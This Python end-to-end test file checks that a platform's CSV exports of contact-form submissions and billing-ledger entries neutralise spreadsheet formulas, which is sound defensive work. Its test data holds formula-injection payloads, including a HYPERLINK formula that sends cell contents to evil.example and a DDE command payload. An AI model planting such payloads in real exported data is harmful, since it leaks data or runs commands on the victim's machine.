"""CSV exports through the gateway never hand a spreadsheet a live formula: what an
anonymous visitor typed into a contact form, and text on the ledger, come back with a
neutralising quote; plain text and real (negative) amounts come back as they were."""

import csv
import io
import re
import uuid

import httpx

from shared.db import TENANT_SETTING
from tests.e2e.platform_client import PlatformClient, SignedUp, eventually
from tests.e2e.test_cms_forms import CONTACT, post_form
from tests.e2e.test_cms_site import publish

# What a spreadsheet would evaluate, first thing in a cell or after blanks and quotes.
FORMULA_STARTS = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212")
HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"open")'
VISITOR_PAYLOADS = [HYPERLINK, "+cmd|' /C calc'!A0", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\uff1d1+1", ' "=1+1"']
NUMBER = re.compile(r"-?\d+(\.\d+)?")
PLAIN_MESSAGE = "Hello, I'd like a quote for 3 pages — Zoë"


def rows_of(response: httpx.Response) -> list[list[str]]:
    """The CSV as a spreadsheet would split it; checks the framing on the way."""
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    raw = response.content
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte order mark, for Excel
    assert b"\r\n" in raw and b"\n" not in raw.replace(b"\r\n", b"")  # CRLF only (no cell here has a newline)
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def live_formulas(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would evaluate: a formula character first, or after blanks and
    double quotes. A leading single quote marks a cell as text; a plain number such as -500
    is a value, not a formula."""
    return [cell for row in rows for cell in row if not NUMBER.fullmatch(cell) and not cell.startswith("'")
            and (cell[:1] in FORMULA_STARTS or cell.lstrip(" \t\r\n\u3000\xa0\"`")[:1] in FORMULA_STARTS)]


async def editor_key(client: PlatformClient, owner: SignedUp) -> str:
    made = await client.call("POST", "/api/identity/api-keys", slug=owner.slug, token=owner.token,
                             json={"name": "exports", "role": "EDITOR"})
    assert made.status_code == 201, made.text
    return made.json()["key"]


async def test_a_visitors_formula_reaches_the_editors_csv_only_as_text(client: PlatformClient) -> None:
    tenant = await client.sign_up("csvforms")
    await publish(client, tenant, "/contact", CONTACT)

    async def rendered() -> bool:
        return 'form=contact-form' in (await client.call("GET", "/contact", slug=tenant.slug)).text

    assert await eventually(rendered, True, within=15)
    # As an anonymous visitor: no token, on the tenant's public host.
    sent = [*VISITOR_PAYLOADS, PLAIN_MESSAGE]
    for n, message in enumerate(sent):
        email = "=1+1@evil.example" if n == 0 else f"visitor{n}@example.com"  # e-mail shaped, and a formula
        posted = await post_form(client, tenant.slug, {"email": email, "message": message})
        assert posted.status_code == 201, (message, posted.text)

    editor = await editor_key(client, tenant)
    rows = rows_of(await client.call("GET", "/api/cms/forms/submissions.csv", slug=tenant.slug, token=editor))
    header, records = rows[0], rows[1:]
    assert header == ["created_at", "page_id", "form_id", "email", "message"]
    assert len(records) == len(sent)
    assert live_formulas(rows) == []
    messages = {record[header.index("message")] for record in records}
    stored = [message.strip() for message in sent]  # the form keeps values trimmed
    assert messages == {("'" + text if text != PLAIN_MESSAGE else text) for text in stored}
    assert PLAIN_MESSAGE in messages  # the allowed twin, untouched
    assert "'=1+1@evil.example" in {record[header.index("email")] for record in records}
    assert "visitor8@example.com" in {record[header.index("email")] for record in records}


async def stage_entry(admin_sql, tenant: SignedUp, amount: int, reference: str, note: str, by: str) -> None:  # type: ignore[no-untyped-def]
    """A ledger row as an operator's adjustment writes it (its text is whatever they typed)."""
    async with admin_sql.transaction():
        await admin_sql.execute("SELECT set_config($1, $2, true)", TENANT_SETTING, tenant.tenant_id)
        await admin_sql.fetchrow("SELECT entry_id FROM billing.apply_entry($1, $2, $3, 'ADJUSTMENT', $4, $5, $6)",
                                 uuid.UUID(tenant.tenant_id), uuid.uuid4(), amount, reference, note, by)


async def test_the_ledger_csv_keeps_amounts_as_numbers_and_text_as_text(client: PlatformClient, admin_sql) -> None:  # type: ignore[no-untyped-def]
    tenant = await client.sign_up("csvledger")

    async def account_open() -> int:
        return (await client.call("GET", "/api/billing/balance", slug=tenant.slug, token=tenant.token)).status_code

    assert await eventually(account_open, 200, within=15) == 200
    await stage_entry(admin_sql, tenant, 1000, HYPERLINK, "@SUM(1)", "-1+1")
    await stage_entry(admin_sql, tenant, -500, "ticket-42", "refund of a double charge", "ops@example.com")

    rows = rows_of(await client.call("GET", "/api/billing/ledger.csv", slug=tenant.slug, token=tenant.token))
    header, records = rows[0], rows[1:]
    assert header == ["created_at", "type", "amount", "reference_id", "note", "created_by", "id"]
    assert live_formulas(rows) == []
    by_amount = {record[2]: record for record in records}
    assert set(by_amount) == {"100", "1000", "-500"}  # the sign-up grant and the two adjustments
    assert by_amount["1000"][3:6] == ["'" + HYPERLINK, "'@SUM(1)", "'-1+1"]
    assert by_amount["-500"][3:6] == ["ticket-42", "refund of a double charge", "ops@example.com"]  # allowed twin
    # The one cell that starts with '-' is a real amount, written as a number a spreadsheet sums.
    assert [cell for row in records for cell in row if cell[:1] in FORMULA_STARTS] == ["-500"]
    assert sum(int(record[2]) for record in records) == 600

    viewer = await client.call("GET", "/api/billing/ledger.csv", slug=tenant.slug,
                               token=await editor_key(client, tenant))
    assert viewer.status_code == 403 and viewer.headers["content-type"] == "application/problem+json"
